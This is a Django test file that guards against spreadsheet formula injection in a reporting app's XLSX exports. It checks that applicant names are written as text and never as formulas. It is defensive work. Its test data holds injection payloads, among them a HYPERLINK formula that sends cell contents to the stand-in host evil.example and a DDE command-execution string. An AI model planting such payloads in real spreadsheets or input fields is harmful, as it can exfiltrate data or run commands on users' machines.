"""Spreadsheet formula injection (issue 13, finding 2).

An applicant named `=HYPERLINK("http://evil.example/?x="&A1,"Click")` became a live formula in
the register book XLSX and in the statistics drill-down XLSX. Every XLSX the project produces
(the URL names ending in `_xlsx`) now writes each string as a text cell (reporting/xlsx.py).
"""

import io
import zipfile

from django.urls import get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from reporting import xlsx
from tests.factories import Office

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
OTHERS = ("+SUM(1,2)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0")


def xlsx_urls():
    """Every XLSX download of the project, from the URL configuration."""
    stats = get_resolver().namespace_dict["stats"][1]
    return sorted(f"/{pattern.pattern}" for pattern in stats.url_patterns if str(pattern.pattern).endswith(".xlsx"))


def test_every_project_xlsx_writes_user_text_as_text_never_as_a_formula(client, db):
    office = Office(code="000.77.88.H12")
    for name in (EVIL, *OTHERS):
        office.receive(applicant_name=name, applicant_address=name)
    client.force_login(office.supervisor)
    today = timezone.localdate().isoformat()
    urls = xlsx_urls()
    assert {"/thong-ke/so-theo-doi.xlsx", "/thong-ke/ho-so.xlsx", "/thong-ke/tien-do.xlsx"} <= set(urls)
    for url in urls:
        response = client.get(url, {"from": today, "to": today, "metric": "received"})
        assert response.status_code == 200, url
        content = b"".join(response.streaming_content) if response.streaming else response.content
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets), url
        cells = [c for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        if url in ("/thong-ke/so-theo-doi.xlsx", "/thong-ke/ho-so.xlsx"):  # the exports with applicants
            assert EVIL in [c.value for c in cells], url


def test_numbers_stay_numbers(db):
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet("x")
    assert xlsx.cell(sheet, 12).data_type == "n"
    assert xlsx.cell(sheet, EVIL).data_type == "s"
